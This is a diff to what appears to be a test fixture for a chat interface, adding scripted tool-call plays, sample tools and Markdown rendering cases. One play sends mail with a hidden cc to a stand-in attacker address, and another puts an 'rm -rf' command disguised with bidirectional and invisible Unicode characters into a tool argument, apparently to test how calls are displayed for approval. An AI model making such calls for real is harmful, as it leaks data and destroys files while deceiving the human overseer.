@@ -63,6 +63,23 @@ ATTACKS = """\
 ```
 """
 
+MARKS = """\
+A claim[^1], and another[^note].
+
+> [!WARNING]
+> Mind the gap.
+
+<details>
+<summary>More</summary>
+
+Hidden **words** here.
+
+</details>
+
+[^1]: The first source.
+[^note]: The *second* one.
+"""
+
 SPEED = 0.01  # seconds between pieces
 
 EXAMPLE = "There is a typo in greet.sh. Can you fix it and run it?"  # for a picture of the page
@@ -111,6 +128,35 @@ PLAYS: dict[str, list[Line]] = {
     ],
     "read": [calls("browser_read_file", path="notes/a.txt"), says("Read.")],
     "list": [calls("browser_list_directory", path=""), says("Listed.")],
+    "mail": [
+        calls(
+            "send_mail",
+            to="ada@example.org",
+            subject="Minutes",
+            body="\n".join(f"line {n} of the minutes" for n in range(60)),
+            urgent=True,
+            cc=["eve@evil.example"],
+            priority="high",
+        ),
+        says("It is sent."),
+    ],
+    "overridden": [calls("memo", title="rm -rf ~/x \u202e # harmless ;)\u200b\U000e0041"), says("Begun.")],
+    "steps": [calls("steps", to=4), says("All steps are done.")],
+    "people": [calls("people"), says("These are they.")],
+    "page": [calls("page"), says("That is the page.")],
+    "fails": [calls("fails"), says("It failed.")],
+    "batch": [sum((calls("add", a=n, b=n) for n in range(11)), calls("fails")), says("The batch is done.")],
+    "cut": [says("The first half of the sen", finish="length"), says("tence, and its end.")],
+    "rtl": [says("שלום **עולם**.\n\n- אחת\n- שתיים\n\n| א | ב |\n|---|---|\n| 1 | 2 |")],
+    "tasks": [
+        calls("todo", items=[{"text": "read", "state": "done"}, {"text": "write"}]),
+        says("Begun."),
+    ],
+    "tasks done": [
+        calls("todo", items=[{"text": "read", "state": "done"}, {"text": "write", "state": "done"}]),
+        says("All done."),
+    ],
+    "marks": [says(MARKS)],
     "task": [calls("task", agent="helper", request="note"), says("The helper is done.")],
 }
 
@@ -154,8 +200,11 @@ def _example(results: list[str]) -> list[Line]:
 
 
 def _is_result(message: Body) -> bool:
-    """Pictures of a result come after it in a user's message, since a tool's message can hold none."""
-    return _text(message["content"]).startswith("[Result of ")
+    """Pictures of a result come after it in a user's message, since a tool's message can hold none.
+
+    Nor did a person ask a reply that was cut off to go on.
+    """
+    return _text(message["content"]).startswith(("[Result of ", "Your reply was cut off."))
 
 
 def _text(content: Any) -> str:
@@ -230,6 +279,39 @@ async def picture(context: ToolContext) -> ToolOutput:
     return ToolOutput("a red square", attachments=(file,))
 
 
+@tool(permission="mail", pattern="to")
+def send_mail(to: str, subject: str, body: str, urgent: bool, cc: list[str], priority: str) -> str:
+    """Send a mail."""
+    return f"sent to {to}"
+
+
+@tool(permission="look")
+def steps(to: int):
+    """Steps, told one by one."""
+    for n in range(1, to + 1):
+        time.sleep(0.3)
+        yield f"step {n} of {to}"
+    return "done"
+
+
+@tool(permission="look")
+def people() -> list[dict[str, object]]:
+    """People as rows."""
+    return [{"name": "Ada", "age": 36, "city": "London"}, {"name": "Lin", "age": 41, "city": "北京"}]
+
+
+@tool(permission="look")
+def page() -> str:
+    """A page of Markdown."""
+    return "# A title\\n\\nSome **bold** words.\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |"
+
+
+@tool(permission="look")
+def fails() -> str:
+    """It always fails."""
+    raise ValueError("the disk is full\\nand more about it")
+
+
 @tool
 def big() -> str:
     """A megabyte of text."""
@@ -240,7 +322,7 @@ CONFIG = """\
 model = "stage/model"
 store = "chat.db"
 tools = ["basics", "files", "browser"]
-allow = ["add", "secret", "nap", "count", "picture", "big", "task", "browser.*"]
+allow = ["add", "secret", "look", "nap", "count", "picture", "big", "task", "browser.*"]
 
 [providers.stage]
 title = "Stage"
